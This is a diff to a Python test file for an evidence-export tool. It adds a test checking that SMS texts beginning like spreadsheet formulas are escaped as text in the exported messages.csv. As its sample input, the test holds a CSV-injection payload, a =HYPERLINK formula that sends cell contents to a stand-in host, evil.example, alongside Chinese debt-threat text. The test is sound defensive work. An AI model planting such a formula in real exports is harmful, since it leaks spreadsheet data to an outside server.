@@ -13,6 +13,7 @@ import subprocess
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
+from xml.sax.saxutils import quoteattr
 
 import pytest
 import typer
@@ -385,3 +386,32 @@ def test_every_member_is_dated_with_the_export(store: EvidenceStore, tmp_path: P
     # streamed members (the ledger, attachments) were dated 1980-01-01 and stored apart
     assert set(years.values()) == {dt.datetime.now().year}, years
     assert methods == {zipfile.ZIP_DEFLATED}
+
+
+def test_spreadsheet_formulas_in_texts_stay_text_in_messages_csv(tmp_path: Path) -> None:
+    """messages.csv opens in Excel; a collector controls the text and the sender shown there:
+    a cell that starts like a formula must not run. items.jsonl keeps the exact text."""
+    s = open_store(f"sqlite:///{tmp_path / 'e.sqlite3'}")
+    formula = (
+        '=HYPERLINK("http://evil.example/?x="&A1,"点我") 【招联金融】您的借款已逾期，再不还款就上门'
+    )
+    f = tmp_path / "b.xml"
+    f.write_text(
+        "<?xml version='1.0' encoding='UTF-8'?>\n<smses>\n"
+        f'<sms address="+8610690000" date="{ms(14, 23)}" type="1" body={quoteattr(formula)} />\n'
+        f'<sms address="10690000" date="{ms(15, 9)}" type="1" body="{THREAT}" />\n'
+        "</smses>\n",
+        encoding="utf-8",
+    )
+    Importer(s).import_file(f)
+    path = tmp_path / "case.zip"
+    export(s, path)
+    with zipfile.ZipFile(path) as z:
+        rows = list(csv.DictReader(io.StringIO(z.read("messages.csv").decode("utf-8-sig"))))
+        items = [json.loads(line) for line in z.read("items.jsonl").decode().splitlines()]
+    s.close()
+    by_text = {r["text"]: r for r in rows}
+    assert "'" + formula in by_text and by_text["'" + formula]["party"] == "'+8610690000"
+    assert by_text[THREAT]["party"] == "10690000"  # ordinary values are left as they are
+    assert formula in [i["content"]["text"] for i in items if i["item"] == "message"]
+    assert verify_bundle(path).ok
